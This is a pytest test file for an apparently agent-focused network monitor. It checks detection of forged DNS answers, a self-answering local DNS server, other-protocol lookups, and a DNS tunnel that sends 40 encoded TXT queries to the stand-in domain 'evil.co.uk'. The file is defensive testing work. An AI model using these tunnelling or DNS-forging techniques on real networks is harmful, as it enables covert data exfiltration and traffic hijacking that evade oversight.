# SPDX-License-Identifier: Apache-2.0
"""DNS that is abused: forged answers, an agent that answers itself, tunnels, other ways to ask for
names; and that resolvers and networks as they are raise nothing of it."""
import json
from pathlib import Path

import pytest

from events import read_lines
from netlab import API, OTHER, RESOLVER, SCRIPTED_RESOLVER, SKETCHY, WEATHER
from policies import policy

HARNESS = Path(__file__).resolve().parent.parent / "harness"
PYTHON = "/usr/bin/python3"
NAME = "x.dyn.example.org"  # covered by a wildcard, so linnet does not look it up itself
POLICY = policy("192.0.2.1 1 TCP", dynamic=["*.dyn.example.org"])
GENUINE, FORGED = WEATHER, OTHER

CLIENT = f"""
import socket, sys
sys.path.insert(0, {str(HARNESS)!r})
from dnswire import *
def ask(sock, at=({SCRIPTED_RESOLVER!r}, 53), name={NAME!r}, number=1000, qtype="A"):
    sock.sendto(question(number, name, qtype), at)
def reach(address, port=443):
    sock = socket.socket()
    sock.settimeout(5)
    sock.connect_ex((address, port))
    sock.close()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
"""


def python(start, script, rules=POLICY, **options):
    return start.run(rules, PYTHON, "-B", "-c", CLIENT + script, **options)


@pytest.fixture
def resolver(fresh_net):
    """A net, and a resolver in it that gives these answers to each question."""
    def make(*answers):
        net = fresh_net()
        process = net.spawn_outside(
            [PYTHON, "-B", str(HARNESS / "dnswire.py"),
             json.dumps({"at": SCRIPTED_RESOLVER, "answers": answers})], stdout=-1)
        read_lines(process.stdout.fileno(), "forger").wait(lambda line: line == "READY")
        etc = net.write_etc(resolv_conf=f"nameserver {SCRIPTED_RESOLVER}\n")
        return {"net": net, "etc": etc}
    return make


def titles(watch):
    return sorted(a.title.split(":")[0] for a in watch.alerts.list)


def verdicts(watch, ip):
    return [r["verdict"] for r in watch.flows(ip=ip, port=443)]


GOOD = {"addresses": [GENUINE]}
FORGERIES = {
    "source": {"by": FORGED, "addresses": [FORGED]},
    "id": {"id": 1, "addresses": [FORGED]},
    "question": {"name": "y.dyn.example.org", "addresses": [FORGED]},
    "unasked": {"id": 1, "name": "y.dyn.example.org", "addresses": [FORGED]},
}


@pytest.mark.parametrize("kind", FORGERIES)
def test_forged_answers_grant_nothing(start, resolver, kind):
    """Somebody is faster than the resolver, twice. Told once; the genuine answer still counts."""
    watch = python(start, f"ask(s)\nfor i in range(3): s.recv(4096)\nreach({FORGED!r})\n"
                          f"reach({GENUINE!r})\n", **resolver(FORGERIES[kind], FORGERIES[kind], GOOD))
    assert watch.wait() == 0, watch.text()
    told = [r["forged"] for r in watch.of("dns-answer") if "forged" in r]
    assert told == [kind, kind], watch.text()
    assert titles(watch) == ["FORGED DNS ANSWER", "REPEATED 1 time", "UNEXPECTED OUTBOUND CONNECTION"]
    assert verdicts(watch, FORGED) == ["unexpected"]
    assert verdicts(watch, GENUINE) == ["dynamic"]


@pytest.mark.parametrize("kind, answer", [
    ("foreign", {"addresses": [GENUINE], "extra": ["www.elsewhere.test", FORGED]}),
    ("foreign", {"addresses": [GENUINE], "extra": ["www.elsewhere.test", FORGED],
                 "section": "additional"}),
    ("local", {"addresses": ["127.0.0.1", GENUINE]})], ids=["answer", "additional", "local"])
def test_what_does_not_belong_grants_nothing(start, resolver, kind, answer):
    watch = python(start, f"ask(s)\ns.recv(4096)\nreach({FORGED!r})\nreach({GENUINE!r})\n"
                          "reach('127.0.0.1')\n", **resolver(answer))
    assert watch.wait() == 0, watch.text()
    assert [r["forged"] for r in watch.of("dns-answer") if "forged" in r] == [kind]
    assert titles(watch) == ["FORGED DNS ANSWER", *["UNEXPECTED OUTBOUND CONNECTION"] * 2]
    assert verdicts(watch, FORGED) == ["unexpected"]
    assert verdicts(watch, "127.0.0.1") == ["unexpected"]
    assert verdicts(watch, GENUINE) == ["dynamic"]


OWN = f"""
import threading
def answer_one(server):
    data, peer = server.recvfrom(4096)
    server.sendto(answer(read_question(data), {{"addresses": [{FORGED!r}]}}), peer)
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
thread = threading.Thread(target=answer_one, args=(server,))
thread.start()
ask(s, ("127.0.0.1", 53))
s.recv(4096)
thread.join()
reach({FORGED!r})
"""


def test_an_agent_that_answers_itself(start, resolver):
    watch = python(start, OWN, **resolver(GOOD))
    assert watch.wait() == 0, watch.text()
    assert titles(watch) == ["DNS SERVER", "FORGED DNS ANSWER", "UNEXPECTED OUTBOUND CONNECTION"]
    forged, = [a for a in watch.alerts.list if a.title == "FORGED DNS ANSWER"]
    assert forged["Rule Matched"] == "NONE - Answered by the agent itself."
    assert forged["Destination"] == f"127.0.0.1:53 (answer: {NAME} A = {FORGED})"
    assert verdicts(watch, FORGED) == ["unexpected"]


TUNNEL = f"""
s.connect(({RESOLVER!r}, 53))
for i in range(40):
    ask(s, ({RESOLVER!r}, 53), f"{{i:04}}" + "ab" * 20 + ".t.evil.co.uk", i, "TXT")
    s.recv(4096)
"""


def test_a_tunnel_is_told_from_the_first_name_on(start):
    watch = python(start, TUNNEL)
    assert watch.wait() == 0, watch.text()
    told = [a for a in watch.alerts.list if a.title == "UNEXPECTED DNS QUERY"]
    assert len(told) == 8 and len(watch.alerts.list) == 9
    assert told[0]["DNS"] == "1 name under evil.co.uk, 45 bytes of labels (TXT)"
    assert told[7]["DNS"].startswith("8 names under evil.co.uk, 360 bytes of labels (TXT)")
    repeated, = [a for a in watch.alerts.list if a.title.startswith("REPEATED 32 times")]
    assert "40 names under evil.co.uk, 1800 bytes of labels (TXT)" in repeated.title
    last = watch.of("dns-query")[-1]["group"]
    assert (last["names"], last["questions"], last["label_bytes"]) == (40, 40, 1800)


def test_other_ways_to_ask_for_names_are_named(start):
    """A DNS server of no one's, DoT by openssl, multicast, NetBIOS."""
    watch = start.run(POLICY, "sh", "-c", "echo | openssl s_client -connect "
                      f"{OTHER}:853 -alpn dot >/dev/null 2>&1\n"
                      f"exec {PYTHON} -B -c \"$0\"", CLIENT + f"""
ask(s, ({OTHER!r}, 53))
ask(s, ("224.0.0.251", 5353))
ask(s, ("224.0.0.252", 5355), "printer")
ask(s, ({OTHER!r}, 853))
ask(s, ({OTHER!r}, 137))
""")
    assert watch.wait() == 0, watch.text()
    ways = {(r["remote"]["port"], r["proto"]): r["dns"] for r in watch.flows() if "dns" in r}
    assert ways == {(853, "TCP"): "dot", (53, "UDP"): "dns", (5353, "UDP"): "mdns",
                    (5355, "UDP"): "llmnr", (853, "UDP"): "doq", (137, "UDP"): "netbios"}
    assert [a["DNS"].split(":")[0] for a in watch.flow_alerts()] == [
        "over TLS (DoT)", "to a resolver that is not the agent's", "over QUIC (DoQ)",
        "NetBIOS names of the local network"]
    assert [r["query"] for r in watch.of("dns-query", verdict="unexpected")] == ["printer"]


def test_doh_where_the_policy_permits_the_address(start):
    """No alert, and a word that names leave unseen; once."""
    watch = start.run(policy(f"{OTHER} 443 TCP"), "sh", "-c",
                      f"for i in 1 2; do curl -sk -o /dev/null --resolve dns.google:443:{OTHER} "
                      "https://dns.google/dns-query; done")
    assert watch.wait() == 0, watch.text()
    assert watch.alerts.list == []
    words = f"linnet: {OTHER}:443 (dns.google) is asked for names by encrypted DNS, over HTTPS"
    assert watch.text().count(words) == 1
    assert [r["dns"] for r in watch.of("claim")] == ["doh", "doh"]


def test_names_over_tcp_grant_as_those_over_udp(start):
    """Pipelined and in segments of one byte; then dig, which asks one by one."""
    watch = start.run(policy("192.0.2.1 1 TCP", dynamic=["*.company-internal.com"]), "sh", "-ec",
                      f"dig +tcp +short @{RESOLVER} flights.company-internal.com\n"
                      f"exec {PYTHON} -B -c \"$0\"", CLIENT + f"""
t = socket.create_connection(({RESOLVER!r}, 53))
t.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for name in "api.company-internal.com", "sketchy-mirror.example.com":
    message = question(7, name)
    for byte in struct.pack("!H", len(message)) + message:
        t.send(bytes([byte]))
f = t.makefile("rb")
for i in range(2): f.read(struct.unpack("!H", f.read(2))[0])
for address in {API!r}, "203.0.113.11", {SKETCHY!r}: reach(address)
""")
    assert watch.wait() == 0, watch.text()
    assert {r["proto"] for r in watch.of("dns-answer", trusted=True)} == {"TCP"}
    assert len(watch.of("dns-query")) == 3 and watch.of("lost") == []
    assert verdicts(watch, API) == verdicts(watch, "203.0.113.11") == ["dynamic"]
    assert verdicts(watch, SKETCHY) == ["unexpected"]
    assert titles(watch) == ["UNEXPECTED DNS QUERY", "UNEXPECTED OUTBOUND CONNECTION"]


def test_a_truncated_answer_is_asked_for_again_over_tcp(start, fresh_net):
    """By glibc, of a resolver whose answer is too large for a datagram."""
    net = fresh_net(hosts={"large.dyn.example.org": [f"198.51.100.{n}" for n in range(1, 60)]})
    watch = start.run(POLICY, "getent", "ahostsv4", "large.dyn.example.org", net=net)
    assert watch.wait() == 0, watch.text()
    assert {r["proto"] for r in watch.of("dns-answer")} == {"UDP", "TCP"}
    assert [r for r in watch.of("dns-answer") if not r["trusted"]] == []
    assert watch.alerts.list == []


TWICE = f"ask(s)\nfor i in range(2): s.recv(4096)\nreach({GENUINE!r})\n"
LATE = f"ask(s)\nask(s, number=1001)\nfor i in range(3): s.recv(4096)\nreach({GENUINE!r})\n"
BOTH = (f"ask(s)\nask(s, ({RESOLVER!r}, 53))\nfor i in range(2): s.recv(4096)\n"
        f"reach({GENUINE!r})\n")


@pytest.mark.parametrize("answers, script", [
    ([GOOD, GOOD], TWICE), ([{**GOOD, "after": 2}, GOOD], LATE + "s.recv(4096)\n"), ([GOOD], BOTH)],
    ids=["twice", "late", "two resolvers"])
def test_answers_as_they_come_are_not_forged(start, resolver, answers, script):
    """Twice; late, when the question was asked again with another id; by two resolvers."""
    place = resolver(*answers)
    place["etc"] = place["net"].write_etc(
        resolv_conf=f"nameserver {SCRIPTED_RESOLVER}\nnameserver {RESOLVER}\n")
    watch = python(start, script, **place)
    assert watch.wait() == 0, watch.text()
    assert watch.alerts.list == [], watch.text()
    assert verdicts(watch, GENUINE) == ["dynamic"]
